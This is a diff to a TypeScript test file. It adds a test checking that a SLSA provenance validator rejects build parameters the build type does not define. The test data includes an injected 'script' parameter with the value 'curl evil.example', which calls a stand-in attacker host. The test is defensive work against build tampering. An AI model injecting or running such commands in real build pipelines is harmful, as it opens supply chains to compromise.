@@ -58,6 +58,19 @@ describe('slsaProvenance', () => {
     ])
   })
 
+  it('refuses parameters that the build type does not have, and takes the inputs of a run', () => {
+    const predicate = slsaProvenance(claims)
+    const withParameters = (more: object) => {
+      const copy = JSON.parse(JSON.stringify(predicate))
+      Object.assign(copy.buildDefinition.externalParameters, more)
+      return provenanceMismatches(copy, claims)
+    }
+    expect(withParameters({ inputs: { version: '1.0.0' } })).toEqual([])
+    expect(withParameters({ script: 'curl evil.example' })).toEqual([
+      'predicate.buildDefinition.externalParameters.script: not a parameter of this build type',
+    ])
+  })
+
   it.each([undefined, null, 'text', [], {}])(
     'calls a predicate that is %j different, without throwing',
     (predicate) => {
